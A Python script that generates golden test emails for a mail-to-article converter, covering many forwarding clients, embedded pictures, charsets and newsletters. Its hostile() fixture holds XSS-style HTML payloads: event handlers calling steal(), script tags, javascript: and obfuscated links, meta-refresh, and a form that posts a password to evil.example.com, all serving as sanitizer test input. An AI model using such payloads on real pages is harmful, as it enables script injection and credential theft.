"""Makes the mails of tests/golden: every dress a Reader View page comes in, and what goes wrong with it on the way.

    python docs/golden.py [FOLDER]      default: tests/golden

What each must become stands beside it in a `.json` that was written by hand. Run again, it makes the same octets.
"""

from __future__ import annotations

import base64
import sys
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from functools import partial
from pathlib import Path

from mailkit import clients, letters, mime
from mailkit.page import Page, fill, load, paste, plain, prefixed
from mailkit.pdf import document
from mailkit.writing import write_all

HERE = Path(__file__).parent
GOLDEN = HERE.parent / "tests" / "golden"
ARTICLES = HERE / "articles"
PICTURE = (HERE / "pictures" / "stage.png").read_bytes()
OTHER = (HERE / "pictures" / "stage-by-night.png").read_bytes()
CID = "ii_luw5m2xq0"

ARCHIVE = "articles@example.net"
JANE = ("Jane Roe", "jane.roe@example.org")
ZOE = ("Zoë Ångström", "zoe@example.com")
BELL = "The Bell on the Landing Stage"
NOTE = "Ring it once, please."
SIGNATURE = "-- "


def bell(source: str = f"cid:{CID}", *, body: str = "") -> Page:
    """The short page most mails are made of; `source` is where its picture comes from, `body` replaces its text."""
    page = load(ARTICLES / "bell.html")
    return replace(page, body=body or page.body.replace("cid:{picture}", source))


def header(subject: str, *, sender: tuple[str, str] = JANE, number: int = 1) -> list[mime.Field]:
    """The fields of a mail as it lies in the mailbox."""
    date = "Mon, 15 Apr 2024 09:30:00 +0200"
    return [
        ("Received", f"from mail.example.org (mail.example.org [192.0.2.7]) by mx.example.net; {date}"),
        ("From", f"{sender[0]} <{sender[1]}>"),
        ("Date", date),
        ("Message-ID", f"<golden.{number}.{len(subject)}@mail.example.org>"),
        ("Subject", subject),
        ("To", f"The archive <{ARCHIVE}>"),
    ]


def picture(cid: str | None = CID, name: str = "stage.png", *, disposition: str | None = None) -> mime.Entity:
    """The picture as a part."""
    return mime.file(PICTURE, "image/png", name, cid=cid, disposition=disposition)


def mail(
    html: str, *parts: mime.Entity, subject: str = BELL, sender: tuple[str, str] = JANE, text: str | None = None
) -> bytes:
    """A mail of Gmail's structure: related(alternative(plain, html), parts)."""
    bodies = [mime.text(text if text is not None else plain(html)), mime.text(html, "html")]
    alternative = mime.multipart("alternative", bodies)
    return mime.mail(
        header(subject, sender=sender), mime.multipart("related", [alternative, *parts]) if parts else alternative
    )


def seed_like(*, nbsp: bool = False) -> bytes:
    """The markup of a real mail: the date typed over the reading time, the figure replaced by an uploaded picture
    whose alt text is a file name, its caption left in a list. With `nbsp`, every space is U+00A0, in the tags too.
    """
    page = load(ARTICLES / "ferry.html")
    html = paste(fill(page, picture=CID))
    text = plain(html)
    name = "4f1c09aa-77d2-4b1e-9d53-0b6a7f2e18c4.jpg"
    body = html.replace(" ", "\u00a0") if nbsp else html
    return mail(body, picture(name=name), subject=page.title, text=text)


def dress(prefix: str) -> bytes:
    """The short page with a prefix before every class and id."""
    return mail(paste(bell(), prefix), picture())


def forward(wrap: Callable[..., str], date: str, subject: str = f"Fwd: {BELL}") -> bytes:
    """The short page, forwarded by a mail program."""
    printed = clients.Printed(*ZOE, *JANE, date, BELL)
    return mail(wrap(paste(bell()), printed, note=NOTE), picture(), subject=subject)


def forwarded_twice() -> bytes:
    """Forwarded by Gmail, and forwarded again by Gmail with a note."""
    first = clients.Printed("Omar Aziz", "omar@example.net", *ZOE, "Fri, Apr 12, 2024 at 6:05\u202fPM", BELL)
    second = clients.Printed(*ZOE, *JANE, "Sat, Apr 13, 2024 at 8:00\u202fAM", f"Fwd: {BELL}")
    inner = clients.gmail(paste(bell()), first)
    return mail(clients.gmail(inner, second, note=NOTE, number="-77120"), picture(), subject=f"Fwd: Fwd: {BELL}")


def forward_plain_text() -> bytes:
    """A forward without HTML, with a note and a signature above it."""
    words = f"""{NOTE}

{SIGNATURE}
Jane Roe
Riverside Society

---------- Forwarded message ---------
From: {ZOE[0]} <{ZOE[1]}>
Date: Fri, Apr 12, 2024 at 6:05\u202fPM
Subject: Low water
To: {JANE[0]} <{JANE[1]}>


The stage was dry on Sunday.

Nobody rang.
"""
    return mime.mail(header("Fwd: Low water"), mime.text(words))


def attached_alone() -> bytes:
    """Forwarded as an attachment, without a word."""
    page = mail(paste(bell()), picture(), sender=ZOE)
    parts = [mime.text('<div dir="ltr"><br></div>', "html"), mime.enclosed(page, "forwarded message.eml")]
    return mime.mail(header(f"Fwd: {BELL}"), mime.multipart("mixed", parts))


def odd_picture(source: str, *parts: mime.Entity) -> bytes:
    """The short page with its picture from an odd source."""
    return mail(paste(bell(source)), *parts)


def picture_twice() -> bytes:
    """One picture referred to twice."""
    page = bell()
    return mail(paste(bell(body=page.body + f'<p><img src="cid:{CID}" alt="The stage once more"></p>')), picture())


def without_header() -> bytes:
    """Only the page's content was copied, without the header of the Reader View."""
    content = f'<div dir="ltr"><div id="readability-page-1" class="page">{bell().body}</div></div>'
    return mail(prefixed(content, "gmail-"), picture())


def hostile() -> bytes:
    """A page that wants to run, to load, to send and to lead away."""
    body = """<p onclick="steal()">Nothing in this story will run.</p>
<script>document.title = "owned by script"</script><style>p { display: none }</style>
<iframe src="https://evil.example.com/frame"></iframe><object data="https://evil.example.com/o.swf"></object>
<embed src="https://evil.example.com/e"><meta http-equiv="refresh" content="0;url=https://evil.example.com/">
<base href="https://evil.example.com/"><link rel="stylesheet" href="https://evil.example.com/s.css">
<svg onload="steal()"><circle r="9"></circle></svg><math><mi xlink:href="javascript:steal()">x</mi></math>
<p><img src="https://evil.example.com/p.gif" onerror="steal()" onload="steal()" alt="pixel" width="1" height="1">
<a href="javascript:steal()">a link that runs</a>, <a href=" jav&#x09;ascript:steal()">another one</a>,
<a href="data:text/html,owned">a page in a link</a> and <a href="https://www.riverside.example.com/safe">a safe
link</a>.</p>
<form action="https://evil.example.com/form"><input name="password" value="secret"><button>Send</button></form>
<p style="background: url(https://evil.example.com/b.png)">The last word is <strong>ours</strong>: &lt;script&gt; is
only a word here.</p>"""
    return mail(paste(bell(body=body)))


def three_attached() -> bytes:
    """Three mails attached to one: two pages and a plain text."""
    second = bell(body="<p>The second story has no picture.</p><p>It has two paragraphs.</p>")
    url = "https://www.riverside.example.com/stories/second"
    second = replace(second, url=url, title="The Second Story", byline="", meta="")
    mails = [
        mail(paste(bell()), picture(), sender=ZOE),
        mail(paste(second), subject="The Second Story", sender=ZOE),
        mime.mail(header("Only words", sender=ZOE), mime.text("The third is plain text.\n\nIt has two paragraphs.\n")),
    ]
    parts = [mime.text("Three at once."), *(mime.enclosed(octets, f"{n}.eml") for n, octets in enumerate(mails, 1))]
    return mime.mail(header("Three stories"), mime.multipart("mixed", parts))


def plain_text() -> bytes:
    """Plain text with an attachment whose name is not ASCII."""
    words = "The boat is back.\n\nShe was <painted> on Tuesday & launched on Wednesday.\n\n-- \nJane\n"
    attached = mime.file(document("Fares", ["Once across    1.20"]), "application/pdf", "Fährpreise 2024.pdf")
    return mime.mail(header("The boat is back"), mime.multipart("mixed", [mime.text(words), attached]))


def html_message() -> bytes:
    """An HTML mail that is no Reader View page."""
    html = """<html><body style="font-family: Arial">
<p class="MsoNormal">Dear archive,</p>
<p class="MsoNormal">the <b>boat</b> is back, and so is <a href="https://www.riverside.example.com/timetable">the
timetable</a>.</p><ul><li>Weekdays at seven</li><li>Sundays never</li></ul>
<table border="1"><tr><th>Day</th><th>First boat</th></tr><tr><td>Monday</td><td>07:00</td></tr></table>
</body></html>"""
    return mail(html, subject="The boat and its timetable")


def newsletter(html: str, *fields: mime.Field, subject: str = letters.TITLE) -> bytes:
    """A newsletter, or what looks like one, straight from its sender."""
    given = header(subject, sender=("The Riverside Letter", "letter@riverside.example.com"))
    return mime.mail([*given, *fields], mime.text(html, "html"))


def newsletter_forwarded() -> bytes:
    """A newsletter that was forwarded with Gmail, so that its header fields are gone."""
    sender = ("Zoë from The Riverside Letter", "riverside@substack.com")
    printed = clients.Printed(*sender, *JANE, "Fri, Apr 12, 2024 at 6:05\u202fPM", letters.TITLE)
    return mail(clients.gmail(letters.post_newsletter(), printed), subject=f"Fwd: {letters.TITLE}")


def legacy_charset() -> bytes:
    """Windows-1252, while the HTML's own meta still says UTF-8: the header of the part is right (RFC 2045 §5)."""
    body = "<p>“It costs 1 €,” said the ferryman – and that was that.</p><p>Smörgås, naïveté, café.</p>"
    html = f'<html><head><meta charset="utf-8"></head><body>{paste(bell(body=body))}</body></html>'
    return mime.mail(header(BELL), mime.text(html, "html", charset="windows-1252"))


def dated(meta: str, byline: str | None = None) -> bytes:
    """The short page with other words where the reading time stands, or in the credits."""
    page = bell()
    return mail(paste(replace(page, byline=byline or page.byline, meta=meta)), picture())


def foreign(name: str) -> bytes:
    """A page in a language that is not written like English."""
    page = load(ARTICLES / f"{name}.html")
    return mail(paste(page), subject=page.title)


def html_only() -> bytes:
    """The short page with no text/plain beside it, in base64."""
    shown = mime.text(paste(bell()), "html", encoding="base64")
    return mime.mail(header(BELL), mime.multipart("related", [shown, picture()]))


def empty() -> bytes:
    """A mail without a body."""
    return mime.mail(header("Nothing but a subject"), mime.Entity((), b""))


def data_source() -> str:
    """The picture as a data: URI (RFC 2397)."""
    return "data:image/png;base64," + base64.b64encode(PICTURE).decode()


MAILS: Mapping[str, Callable[[], bytes]] = {
    "seed_like": seed_like,
    "seed_like_nbsp": partial(seed_like, nbsp=True),
    "dress_none": partial(dress, ""),
    "dress_gmail": partial(dress, "gmail-"),
    "dress_m_gmail": partial(dress, "m_-123456gmail-"),
    "dress_gmail_m_gmail": partial(dress, "gmail-m_123456gmail-"),
    "dress_x_gmail": partial(dress, "x_gmail-"),
    "dress_yiv_gmail": partial(dress, "yiv123456gmail-"),
    "forward_gmail": partial(forward, clients.gmail, "Fri, Apr 12, 2024 at 6:05\u202fPM"),
    "forward_outlook": partial(forward, clients.outlook, "Friday, April 12, 2024 6:05 PM", f"FW: {BELL}"),
    "forward_apple": partial(forward, clients.apple, "12 April 2024 at 18:05:32 CEST"),
    "forward_thunderbird": partial(forward, clients.thunderbird, "Fri, 12 Apr 2024 18:05:32 +0200"),
    "forward_yahoo": partial(forward, clients.yahoo, "Friday, April 12, 2024 at 06:05:32 PM GMT+2"),
    "forward_outlook_german": partial(
        forward, partial(clients.outlook, labels=clients.OUTLOOK_GERMAN), "Freitag, 12. April 2024 18:05", f"WG: {BELL}"
    ),
    "forward_twice": forwarded_twice,
    "forward_plain_text": forward_plain_text,
    "attached_alone": attached_alone,
    "html_only": html_only,
    "empty": empty,
    "picture_upper_case": partial(odd_picture, f"CID:{CID}", picture()),
    "picture_percent_encoded": partial(
        odd_picture, "cid:stage%2B1%40mail.example.org", picture("stage+1@mail.example.org")
    ),
    "picture_twice": picture_twice,
    "picture_missing": partial(odd_picture, "cid:ii_gone"),
    "picture_data": partial(odd_picture, data_source()),
    "picture_remote": partial(odd_picture, "https://img.riverside.example.com/stage.png?w=240&amp;q=80"),
    "picture_as_attachment": partial(odd_picture, f"cid:{CID}", picture(disposition="attachment")),
    "picture_unreferenced": partial(
        odd_picture, f"cid:{CID}", picture(), mime.file(OTHER, "image/png", "by-night.png", cid="ii_more")
    ),
    "without_header": without_header,
    "reading_time": partial(dated, "5–6 minutes"),
    "date_in_credits": partial(dated, "4 - 5 minutes", "Jonah Okafor, 12 April 2024"),
    "plain_text": plain_text,
    "html_message": html_message,
    "newsletter": partial(
        newsletter,
        letters.table_newsletter(),
        ("List-Id", "The Riverside Letter <letter.riverside.example.com>"),
        ("List-Unsubscribe", "<https://us7.list-manage.com/unsubscribe?u=1>"),
    ),
    "newsletter_forwarded": newsletter_forwarded,
    "receipt": partial(
        newsletter, letters.receipt(), ("Feedback-ID", "4711:list-manage"), subject="Thank you for your order"
    ),
    "letter_about_newsletters": partial(mail, letters.letter(), subject="The soup, and that newsletter"),
    "plain_article": lambda: mime.mail(header(letters.TITLE), mime.text(letters.plain_article())),
    "link_shared": lambda: mime.mail(header(letters.TITLE), mime.text(letters.shared_link())),
    "link_words": partial(mail, letters.linked_words(), subject=""),
    "safari_reader": lambda: mail(letters.safari_page(), picture(), subject=letters.TITLE),
    "legacy_charset": legacy_charset,
    "arabic": partial(foreign, "well"),
    "japanese": partial(foreign, "clock"),
    "hostile": hostile,
    "three_attached": three_attached,
}


def main(arguments: Sequence[str]) -> None:
    """Writes all mails into the folder."""
    write_all(MAILS, arguments, GOLDEN)


if __name__ == "__main__":
    main(sys.argv[1:])
